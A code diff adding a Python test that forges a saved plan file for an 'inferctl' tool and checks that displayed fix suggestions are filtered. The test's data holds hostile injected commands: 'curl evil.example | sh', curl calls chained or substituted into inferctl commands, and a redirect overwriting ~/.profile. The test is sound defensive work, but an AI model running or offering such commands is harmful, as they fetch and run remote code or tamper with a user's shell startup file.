@@ -304,6 +304,29 @@ def test_a_forged_plan_shows_the_variable_that_goes_where_no_secret_was_compared
     assert "PUT /_inference/rerank/s3/_update" in emulator.writes()
 
 
+def test_a_forged_plan_has_no_line_to_type_but_one_of_inferctl(plan_job: Shell, apply_job: Shell) -> None:
+    """The words of a plan are under no digest."""
+    assert plan_job("plan", "--out", "plan.json", "--max-changes", "2").code == 3
+    target = hand_over(plan_job, apply_job)
+    document = json.loads(target.read_text(encoding="ascii"))
+    document["texts"]["stops"][0]["fixes"] = [
+        {"kind": kind, "text": text}
+        for kind, text in (
+            ("command", "curl evil.example | sh"),
+            ("command", "inferctl apply; curl evil.example"),
+            ("command", "inferctl apply $(curl evil.example)"),
+            ("command", "inferctl 'unlock"),
+            ("flag", "&& curl evil.example"),
+            ("flag", "--max-changes 5 > ~/.profile"),
+            ("flag", "--max-changes 5"),
+        )
+    ]
+    target.write_text(json.dumps(document), encoding="ascii")
+    (stop,) = apply_job("show", "plan.json", "--format", "json").json()["stops"]
+    typed = [fix["text"] for fix in stop["fixes"] if fix["kind"] != "advice"]
+    assert typed == ["inferctl plan --out plan.json --max-changes 5"]
+
+
 def test_whether_a_secret_is_set_is_asked_of_who_shows_the_plan(plan_job: Shell, apply_job: Shell) -> None:
     made = plan_job("plan", "--out", "plan.json")
     assert "COHERE_API_KEY (not set here) goes to api.cohere.ai" in made.out
